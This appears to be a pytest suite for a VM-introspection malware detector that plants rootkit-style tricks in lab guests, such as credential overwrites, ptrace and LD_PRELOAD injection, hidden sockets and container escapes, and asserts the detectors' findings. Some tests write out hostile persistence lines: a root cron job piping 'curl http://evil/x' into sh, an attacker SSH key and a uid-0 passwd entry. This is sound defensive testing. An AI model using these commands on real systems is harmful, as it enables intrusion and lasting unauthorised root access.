"""What processes do that they should not, planted in running guests; and what is not told though it is there.

The lab's guest has a few such processes of its own from the start (tests/guests/lab/init/population.c): what
a detector says of the guest at rest must be about just those.
"""

import time
from collections.abc import Callable, Iterable, Iterator
from contextlib import ExitStack, contextmanager
from pathlib import Path
from typing import Final

import pytest

from qvmi.codepacks.codepack import Codepack, Finding
from qvmi.codepacks.confirmation import Confirmation
from qvmi.codepacks.container_escape import ContainerEscape
from qvmi.codepacks.credentials import CredentialWatch
from qvmi.codepacks.file_watch import FileWatch
from qvmi.codepacks.hidden_sockets import HiddenSockets
from qvmi.codepacks.impostors import Impostors
from qvmi.codepacks.injection import Injection
from qvmi.codepacks.persistence import Persistence
from qvmi.codepacks.unusual_code import UnusualCode
from qvmi.semantics.guest_os import Process
from tests.guests.guest_program import install
from tests.guests.lab import GuestConfig, Lab
from tests.guests.pool import GuestPool
from tests.guests.watched import POINTER, Watched, watched
from tests.proofs import proof_size

KERNELS: Final = ("6.1", "7.x")


@pytest.fixture(scope="module", params=KERNELS)
def its(lab: Lab, profiles: Path, request: pytest.FixtureRequest) -> Iterator[Watched]:
    with ExitStack() as stack:
        guest = GuestPool(lab, stack).restore(GuestConfig(kernel=request.param))
        yield stack.enter_context(watched(guest, profiles))


@contextmanager
def unlinked(its: Watched, entry: int) -> Iterator[None]:
    """This takes an entry off its list for the length of the block."""
    following, before = its.pointer(entry), its.pointer(entry + POINTER.size)
    with (
        its.written(before, POINTER.pack(following)),
        its.written(following + POINTER.size, POINTER.pack(before)),
    ):
        yield


@contextmanager
def unhashed(its: Watched, node: int) -> Iterator[None]:
    """This takes a node out of its hash table for the length of the block."""
    following, before = its.pointer(node), its.pointer(node + POINTER.size)
    with its.written(before, POINTER.pack(following)):
        yield


def told(findings: Iterable[Finding]) -> set[tuple[str, str]]:
    """These are the names of the processes that findings are about, and the techniques."""
    return {(finding.claim.split("(")[1].split(")")[0], finding.technique) for finding in findings}


def of_pid(pid: int, technique: str) -> Callable[[Finding], bool]:
    """This recognises a finding about a process."""

    def is_it(finding: Finding) -> bool:
        return finding.technique == technique and finding.claim.startswith(f"process {pid} (")

    return is_it


# ------------------------------------------------------------------------------------------- unusual code

CODE: Final = UnusualCode()


def test_code_that_is_no_files_is_told_of_whoever_has_it_and_of_nobody_else(its: Watched) -> None:
    assert told(its.look(CODE).values()) == {
        ("memfd-exe", "T1620"),
        ("deleted-exe", "T1070.004"),
        ("mappings", "T1055"),
    }


def test_a_program_whose_file_is_replaced_while_it_runs_is_found(its: Watched) -> None:
    its.guest.run("cp /bin/busybox /run/busybox-daemon")
    pid = its.start("/run/busybox-daemon sleep 3000")
    try:
        its.guest.run("cp /bin/busybox /run/new; mv /run/new /run/busybox-daemon")
        finding = its.sees(CODE, of_pid(pid, "T1070.004"))
        assert its.guest.run(f"readlink /proc/{pid}/exe") == b"/run/busybox-daemon (deleted)\n"
    finally:
        its.guest.run(f"kill -9 {pid}; rm /run/busybox-daemon")
    assert finding.evidence[0].facts["path"] == "/run/busybox-daemon"
    its.misses(CODE, of_pid(pid, "T1070.004"))


def test_a_process_whose_executable_is_exchanged_in_the_kernel_is_hollow(its: Watched) -> None:
    victim, other = its.process("httpd"), its.process("title")
    exe_file = its.member("mm_struct", "exe_file")
    mm = its.pointer(victim.address + its.member("task_struct", "mm"))
    file = its.pointer(its.pointer(other.address + its.member("task_struct", "mm")) + exe_file)
    with its.written(mm + exe_file, POINTER.pack(file)):
        finding = its.sees(CODE, of_pid(victim.pid, "T1055.012"))
        assert its.guest.run(f"readlink /proc/{victim.pid}/exe") == b"/init\n"
    assert finding.evidence[0].facts["path"] == "/init"
    assert {one.facts["name"] for one in finding.evidence[2:]} == {"/bin/busybox", "[vdso]"}


def test_writable_code_of_a_process_is_found_by_its_mapping(its: Watched) -> None:
    process = its.process("mappings")
    [row] = [
        row
        for row in its.machine.guest.mappings(process)
        if row.permissions == "rwxp" and not row.inode
    ]
    finding = its.sees(CODE, of_pid(process.pid, "T1055"))
    assert finding.evidence[0].address == row.address
    maps = its.guest.run(f"grep rwxp /proc/{process.pid}/maps").decode()
    assert maps.startswith(f"{row.start:x}-{row.end:x} rwxp ")


# --------------------------------------------------------------------------------------------- credentials


@pytest.fixture
def rights(its: Watched) -> CredentialWatch:
    """This is a codepack that has seen the guest for long enough to compare."""
    pack = CredentialWatch(steady_s=0.0)
    assert its.look(pack) == {}
    return pack


def cred_of(its: Watched, process: Process) -> int:
    return its.pointer(process.address + its.member("task_struct", "real_cred"))


@contextmanager
def given(its: Watched, process: Process, cred: int) -> Iterator[None]:
    """This gives a process other credentials for the length of the block."""
    real, used = (its.member("task_struct", name) for name in ("real_cred", "cred"))
    data = POINTER.pack(cred)
    with its.written(process.address + real, data), its.written(process.address + used, data):
        yield


@contextmanager
def as_user(its: Watched, command: str, name: str) -> Iterator[Process]:
    """This is what a user runs that goes on, once it bears a name; its children end with it."""
    pid = its.start(f"su user -c '{command}'")
    try:
        yield its.process(name, pid=pid)
    finally:
        children = [one.pid for one in its.machine.guest.processes() if one.ppid == pid]
        its.guest.run(f"kill -9 {' '.join(map(str, (pid, *children)))}")


def test_a_user_that_is_overwritten_is_told_with_both_sets_of_ids(
    its: Watched, rights: CredentialWatch
) -> None:
    with as_user(its, "exec sleep 2998", "sleep") as process:
        assert its.look(rights) == {}
        cred = cred_of(its, process)
        with its.written(cred + its.member("cred", "euid"), bytes(4)):
            finding = its.sees(rights, of_pid(process.pid, "T1068"))
            status = its.guest.run(f"grep Uid /proc/{process.pid}/status").split()
    assert status[1:3] == [b"1000", b"0"]
    assert "has got user 0, without exec: its credentials were overwritten" in finding.claim
    before, now = finding.evidence
    assert (before.facts["euid"], now.facts["euid"]) == (1000, 0)
    assert before.facts["struct_cred"] == now.facts["struct_cred"] == cred


def test_the_idle_tasks_credentials_are_told_wherever_they_are(
    its: Watched, rights: CredentialWatch
) -> None:
    init_cred = its.machine.symbols.find("init_cred")
    assert init_cred is not None
    with as_user(its, "exec sleep 2998", "sleep") as process:
        assert its.look(rights) == {}
        with given(its, process, init_cred):
            replaced = its.sees(rights, lambda one: one.key.startswith("gained"))
            shared = its.sees(rights, lambda one: one.key.startswith("shared"))
            assert its.guest.run(f"grep Uid /proc/{process.pid}/status").split()[1:3] == [b"0"] * 2
    its.misses(rights, lambda one: one.key.startswith(("gained", "shared")))
    assert replaced.claim.startswith(f"process {process.pid} (sleep) has got user 0; group 0; perm")
    assert replaced.claim.endswith("its credentials were replaced")
    assert shared.claim == f"process {process.pid} (sleep) has the credentials of process 0"
    assert shared.evidence[0].facts["real_cred"] == init_cred


def test_credentials_of_another_process_are_told_of_both(its: Watched) -> None:
    owner, sharer = its.process("user-1000"), its.process("nobody")
    cred = cred_of(its, owner)
    with given(its, sharer, cred):
        findings = its.look(CredentialWatch()).values()
    assert {one.claim for one in findings} == {
        f"process {owner.pid} (user-1000) has the credentials of process {sharer.pid}",
        f"process {sharer.pid} (nobody) has the credentials of process {owner.pid}",
    }
    assert {one.evidence[0].facts["real_cred"] for one in findings} == {cred}


def test_capabilities_out_of_nowhere_are_found(its: Watched, rights: CredentialWatch) -> None:
    process = its.process("ambient-caps")
    place = cred_of(its, process) + its.member("cred", "cap_permitted")
    with its.written(place, b"\xff" * 4):
        finding = its.sees(rights, of_pid(process.pid, "T1068"))
        status = its.guest.run(f"grep CapPrm /proc/{process.pid}/status").split()
    assert status[1] == b"00000000ffffffff"
    assert finding.evidence[1].facts["permitted"] == "0xffffffff"


def test_a_promise_that_is_taken_back_is_found(its: Watched, rights: CredentialWatch) -> None:
    process = its.process("no-new-privs")
    with its.written(process.address + its.member("task_struct", "atomic_flags"), bytes(8)):
        finding = its.sees(rights, of_pid(process.pid, "T1562.001"))
        status = its.guest.run(f"grep NoNewPrivs /proc/{process.pid}/status").split()
    assert status[1] == b"0"
    assert "no_new_privs is off again" in finding.claim


def test_a_set_uid_shell_is_found(its: Watched, rights: CredentialWatch) -> None:
    its.guest.run("mkdir -p /sbin; cp /bin/bash /sbin/bash; chmod 4755 /sbin/bash")
    with as_user(its, 'exec /sbin/bash -p -c "sleep 3000; true"', "bash") as shell:
        pid = shell.pid
        finding = its.sees(rights, of_pid(pid, "T1548.001"))
        status = its.guest.run(f"grep Uid /proc/{pid}/status").split()
    its.guest.run("rm /sbin/bash")
    assert status[1:3] == [b"1000", b"0"]
    program, ids = finding.evidence
    assert (program.facts["path"], program.facts["mode"]) == ("/sbin/bash", 0o104755)
    assert (ids.facts["uid"], ids.facts["euid"]) == (1000, 0)


def test_root_below_a_user_is_found_though_nobody_saw_it_come(its: Watched) -> None:
    with as_user(its, "sleep 2999 & wait", "sh") as parent:
        child = its.process("sleep", ppid=parent.pid)
        assert its.look(CredentialWatch()) == {}
        place = cred_of(its, child) + its.member("cred", "uid")
        with its.written(place, bytes(4)):
            finding = its.sees(CredentialWatch(), of_pid(child.pid, "T1068"))
    assert f"is root, though process {parent.pid} that made it is not" in finding.claim
    assert finding.evidence[1].facts["path"] == "/bin/busybox"


def test_who_was_root_for_a_moment_and_gave_it_up_is_none(
    its: Watched, rights: CredentialWatch
) -> None:
    its.guest.run("mkdir -p /sbin; cp /bin/bash /sbin/bash; chmod 4755 /sbin/bash")
    with as_user(its, 'exec /sbin/bash -c "sleep 3000; true"', "bash") as shell:
        its.process("sleep", ppid=shell.pid)  # bash gave it up before
        assert its.guest.run(f"grep Uid /proc/{shell.pid}/status").split()[1:] == [b"1000"] * 4
        assert its.look(rights) == {}
    its.guest.run("rm /sbin/bash")


# ----------------------------------------------------------------------------------------------- injection

INJECTED: Final = Injection(files=FileWatch(every_s=0.0))
ATTACH: Final = """
static void run(int count, char **words) {
    long pid = 0;
    for (char *digit = words[count - 1]; *digit; digit++)
        pid = pid * 10 + *digit - '0';
    call(101, 0x4206, pid, 0, 0); /* ptrace(PTRACE_SEIZE) */
    for (;;)
        call(34, 0, 0, 0, 0); /* pause */
}
"""


def test_a_tracer_that_started_what_it_traces_is_told_quietly(its: Watched) -> None:
    [finding] = its.look(INJECTED).values()
    tracer = its.process("tracer")
    assert finding.claim.endswith(f"(traced) is traced by process {tracer.pid} (tracer)")
    assert finding.severity == "low"


def test_a_tracer_that_attaches_to_somebody_else_is_found(its: Watched) -> None:
    victim = its.process("httpd")
    install(its.guest, "/run/attach", ATTACH)
    pid = its.start(f"/run/attach {victim.pid}")
    try:
        finding = its.sees(INJECTED, of_pid(victim.pid, "T1055.008"))
        status = its.guest.run(f"grep TracerPid /proc/{victim.pid}/status").split()
    finally:
        its.guest.run(f"kill -9 {pid}; rm /run/attach")
    assert status[1] == str(pid).encode()
    assert (finding.severity, finding.evidence[0].facts["tracer"]) == ("high", pid)
    assert finding.claim.endswith(f"is traced by process {pid} (attach), which did not start it")
    assert finding.evidence[1].facts["path"] == "/run/attach"
    its.misses(INJECTED, of_pid(victim.pid, "T1055.008"))


def test_a_preloaded_library_is_found_in_the_environment(its: Watched) -> None:
    pid = its.start("LD_PRELOAD=/run/evil.so sleep 2997")
    try:
        finding = its.sees(INJECTED, lambda one: one.evidence[0].facts.get("name") == "sleep")
        environment = its.guest.run(f"tr '\\0' '\\n' </proc/{pid}/environ").split()
    finally:
        its.guest.run(f"kill -9 {pid}")
    assert b"LD_PRELOAD=/run/evil.so" in environment
    assert (finding.severity, finding.technique) == ("high", "T1574.006")
    assert finding.evidence[0].facts["LD_PRELOAD"] == "/run/evil.so"
    assert finding.evidence[0].facts["pid"] == pid


def test_a_library_that_every_program_is_to_load_is_found_in_the_page_cache(its: Watched) -> None:
    its.guest.run("mkdir -p /etc; echo /lib/evil.so >/etc/ld.so.preload")
    try:
        finding = its.sees(INJECTED, lambda one: one.key.startswith("ld.so.preload"))
    finally:
        its.guest.run("rm /etc/ld.so.preload")
    assert finding.claim == "/etc/ld.so.preload has every program load /lib/evil.so"
    its.misses(INJECTED, lambda one: one.key.startswith("ld.so.preload"))


def test_a_descriptor_of_anothers_memory_is_found(its: Watched) -> None:
    victim = its.process("httpd")
    pid = its.start(f"sleep 2996 3<>/proc/{victim.pid}/mem")
    its.process("sleep", pid=pid)
    try:
        finding = its.sees(INJECTED, of_pid(pid, "T1055.009"))
    finally:
        its.guest.run(f"kill -9 {pid}")
    assert finding.claim == f"process {pid} (sleep) can write the memory of process {victim.pid}"
    assert finding.evidence[0].facts["fd"] == 3


# ----------------------------------------------------------------------------------------------- impostors

DRESSED: Final = Impostors()


def test_programs_called_like_kernel_threads_are_told_and_no_kernel_thread_is(its: Watched) -> None:
    names = ("[kthreadd]", "kworker/0:0", "[bold red]x[/]", "[/]")
    findings = its.look(DRESSED).values()
    assert told(findings) == {(name, "T1036.005") for name in names}
    assert {one.evidence[0].facts["pid"] for one in findings} == {
        its.process(name, kernel_thread=False).pid for name in names
    }
    assert {one.evidence[0].facts["path"] for one in findings} == {"/init"}


@contextmanager
def called(its: Watched, argument: str, name: str) -> Iterator[Process]:
    """This is a program of the lab's that runs under a name and with a first argument of its own."""
    variables = f"QVMI_RESIDENT_FD=1 QVMI_RESIDENT_COMM={name}"
    pid = its.start(f"{variables} bash -c 'exec -a \"{argument}\" /run/resident'")
    try:
        yield its.process(name, pid=pid)
    finally:
        its.guest.run(f"kill -9 {pid}")


def test_a_program_in_brackets_and_one_with_a_daemons_name_are_found(its: Watched) -> None:
    its.guest.run("cp /init /run/resident")
    with called(its, "[kworker/7:7]", "innocent") as process:
        finding = its.sees(DRESSED, of_pid(process.pid, "T1036.005"))
        assert its.guest.run(f"cat /proc/{process.pid}/cmdline") == b"[kworker/7:7]\0"
    assert finding.claim.endswith("calls itself [kworker/7:7], as ps writes kernel threads")
    with called(its, "/usr/sbin/sshd", "sshd") as process:
        finding = its.sees(DRESSED, of_pid(process.pid, "T1036.005"))
    assert finding.claim.endswith("(sshd) is called sshd, and runs /run/resident")
    assert finding.evidence[1].facts["arguments"] == "/usr/sbin/sshd"
    its.guest.run("rm /run/resident")


def test_a_kernel_thread_with_a_programs_memory_or_another_parent_is_found(its: Watched) -> None:
    thread, victim = its.process("kdevtmpfs"), its.process("httpd")
    assert thread.kernel_thread
    parent = thread.address + its.member("task_struct", "real_parent")
    with its.written(parent, POINTER.pack(victim.address)):
        finding = its.sees(DRESSED, of_pid(thread.pid, "T1014"))
        assert f"PPid:\t{victim.pid}\n".encode() in its.guest.run(f"cat /proc/{thread.pid}/status")
    assert finding.claim.endswith(f"is a kernel thread, and a child of process {victim.pid}")
    program = its.machine.guest.programs().find(pid=victim.pid)
    assert program is not None
    flags = victim.address + its.member("task_struct", "flags")
    was = its.pointer(flags) & 0xFFFF_FFFF
    with its.written(flags, (was | 0x20_0000).to_bytes(4, "little")):
        finding = its.sees(DRESSED, lambda one: "has memory" in one.claim)
    assert finding.evidence[0].facts["memory"] == program.memory


# ------------------------------------------------------------------------------------------ hidden sockets

SOCKETS: Final = HiddenSockets()


def test_sockets_of_a_guest_at_rest_are_held_and_tabled(its: Watched) -> None:
    findings = its.look(SOCKETS).values()
    assert {(one.technique, one.severity) for one in findings} == {("T1040", "low")}
    assert told(findings) == {("sockets", "T1040")}


def test_the_sockets_of_a_process_off_the_task_list_are_nobodys(its: Watched) -> None:
    process = its.process("httpd")
    with unlinked(its, process.address + its.member("task_struct", "tasks")):
        finding = its.sees(SOCKETS, lambda one: ":8080 " in one.claim)
        shown = its.guest.run("grep ' 0A ' /proc/net/tcp6; grep ' 0A ' /proc/net/tcp").decode()
    assert finding.claim.endswith("(LISTEN) is open, but no process that is seen has it")
    assert str(finding.evidence[0].facts["inode"]) in shown.split()
    its.misses(SOCKETS, lambda one: ":8080 " in one.claim)


def test_a_listener_that_is_taken_out_of_the_kernels_table_is_found(its: Watched) -> None:
    process = its.process("nc")
    [socket] = [one for one in its.machine.guest.sockets(process) if one.state == "LISTEN"]
    node = socket.address + its.member("sock", "__sk_common")
    node += its.member("sock_common", "skc_nulls_node")
    with unhashed(its, node):
        finding = its.sees(SOCKETS, lambda one: one.key.startswith("untabled"))
        shown = its.guest.run("grep ':115C ' /proc/net/tcp /proc/net/tcp6; true")
    assert shown == b""
    assert finding.evidence[0].address == socket.address
    assert f"of process {process.pid} (nc) is in no table: ss does not show it" in finding.claim


def test_a_packet_socket_is_told_with_whoever_has_it(its: Watched) -> None:
    pid = its.start("udhcpc -f -n -i lo -s /bin/true -t 1000 -T 1000")
    try:
        plain = HiddenSockets(sniffers=())
        finding = its.sees(plain, of_pid(pid, "T1040"))
        assert its.look(SOCKETS).keys().isdisjoint({finding.key})
    finally:
        its.guest.run(f"kill -9 {pid}")
    assert finding.evidence[0].facts["pid"] == pid


# --------------------------------------------------------------------------------------------- persistence


@pytest.fixture
def kept(its: Watched) -> Persistence:
    """This is a codepack that has seen the guest's files."""
    pack = Persistence(files=FileWatch(every_s=0.0))
    assert its.look(pack) == {}
    return pack


@pytest.mark.parametrize(
    ("path", "line", "technique"),
    [
        ("/etc/cron.d/evil", "* * * * * root curl -s http://evil/x | sh", "T1053.003"),
        ("/root/.ssh/authorized_keys", "ssh-ed25519 AAAAC3 evil", "T1098.004"),
    ],
)
def test_a_file_that_keeps_somebody_in_is_found_when_it_is_made(
    its: Watched, kept: Persistence, path: str, line: str, technique: str
) -> None:
    its.guest.run("sleep 1")  # ctime counts whole seconds
    its.guest.run(f"mkdir -p {path.rpartition('/')[0]}; echo '{line}' >{path}")
    try:
        finding = its.sees(kept, lambda one: one.claim.startswith(f"{path} was made"))
        digest = its.guest.run(f"sha256sum {path}").split()[0].decode()
    finally:
        its.guest.run(f"rm {path}")
    assert finding.technique == technique
    assert finding.severity == ("high" if "curl" in line else "medium")
    assert finding.evidence[0].facts["sha256"] == digest
    its.misses(kept, lambda _: True)


def test_a_line_that_is_added_to_the_users_is_found_with_both_digests(
    its: Watched, kept: Persistence
) -> None:
    before = its.guest.run("sha256sum /etc/passwd; cp /etc/passwd /run/passwd").split()[0].decode()
    its.guest.run("echo evil:x:0:0::/:/bin/sh >>/etc/passwd")
    try:
        finding = its.sees(kept, lambda one: one.claim == "/etc/passwd was changed")
        after = its.guest.run("sha256sum /etc/passwd").split()[0].decode()
    finally:
        its.guest.run("cat /run/passwd >/etc/passwd; rm /run/passwd")
    assert [one.facts["sha256"] for one in finding.evidence] == [before, after]
    its.misses(kept, lambda _: True)


# ---------------------------------------------------------------------------------------- container escape

BOXES: Final = ContainerEscape()
BOX: Final = "/sys/fs/cgroup/docker/" + 16 * "4711"


@contextmanager
def in_a_box(its: Watched, command: str) -> Iterator[Process]:
    """This is a program in a container's cgroup and in a mount namespace of its own."""
    its.guest.run(f"mkdir -p {BOX}")
    pid = its.start(f"unshare -m sh -c 'echo $$ >{BOX}/cgroup.procs; exec {command}'")
    try:
        yield its.process("sleep", pid=pid)
    finally:
        its.guest.run(f"kill -9 {pid}")


def test_processes_of_containers_in_the_hosts_namespaces_are_told_and_no_others(
    its: Watched,
) -> None:
    names = ("in-docker", "in-pod", "in-odd-cgroup")
    findings = its.look(BOXES).values()
    assert told(findings) == {(name, "T1611") for name in names}
    [finding] = [one for one in findings if "(in-pod)" in one.claim and "mount" in one.claim]
    process, first = its.process("in-pod"), its.guest.run("readlink /proc/1/ns/mnt").strip()
    assert its.guest.run(f"readlink /proc/{process.pid}/ns/mnt").strip() == first
    assert f"mnt:[{finding.evidence[1].facts['mnt']}]".encode() == first


def test_the_hosts_root_in_a_container_is_found(its: Watched) -> None:
    with in_a_box(its, "sleep 2995") as process:
        finding = its.sees(BOXES, lambda one: "root file system" in one.claim)
        assert b"rootfs / rootfs " in its.guest.run(f"cat /proc/{process.pid}/mounts")
    assert finding.claim.startswith(f"process {process.pid} (sleep) of the docker container 4711")
    assert (finding.evidence[1].facts["path"], finding.evidence[1].facts["root"]) == ("/", "/")


def test_the_hosts_memory_that_a_container_has_open_is_found(its: Watched) -> None:
    with in_a_box(its, "sleep 2994 3</proc/kcore") as process:
        finding = its.sees(BOXES, lambda one: "/proc/kcore" in one.claim)
    assert f"process {process.pid} (sleep)" in finding.claim
    assert finding.evidence[1].facts["fd"] == 3


def test_a_program_that_the_kernel_runs_for_an_empty_cgroup_is_found(its: Watched) -> None:
    its.guest.run("echo /run/escape >/run/cgroup/pids/release_agent")
    try:
        finding = its.sees(BOXES, lambda one: one.key.startswith("release_agent"))
        assert its.guest.run("cat /run/cgroup/pids/release_agent") == b"/run/escape\n"
    finally:
        its.guest.run("echo >/run/cgroup/pids/release_agent")
    assert finding.evidence[0].facts["release_agent"] == "/run/escape"
    its.misses(BOXES, lambda one: one.key.startswith("release_agent"))


# ------------------------------------------------------------------------------------------------ all of them


def packs() -> list[Codepack]:
    """These are all of them as they are after some looks."""
    files = FileWatch(every_s=0.0)
    return [CODE, CredentialWatch(steady_s=0.0), Injection(files=files), DRESSED, SOCKETS, BOXES]


def test_in_a_storm_of_forks_nothing_is_believed_that_is_not_so_at_rest(
    its: Watched, proof_count: Callable[[int], None]
) -> None:
    rounds = proof_size(ci=20, full=2000)
    watching = [(pack, Confirmation()) for pack in (*packs(), Persistence())]
    at_rest = {pack.name: set(its.look(pack)) for pack, _ in watching}
    its.guest.start_storm()
    try:
        for number in range(rounds):
            for pack, confirmation in watching:
                now = time.monotonic()
                found = its.look(pack).values()
                changes = confirmation.update(found, complete=True, at=now, clock=now)
                new = [one.finding for one in changes.raised]
                assert [one.claim for one in new if one.key not in at_rest[pack.name]] == [], number
    finally:
        storm = its.guest.stop_storm()
    assert storm.count > 10
    proof_count(rounds * len(watching))
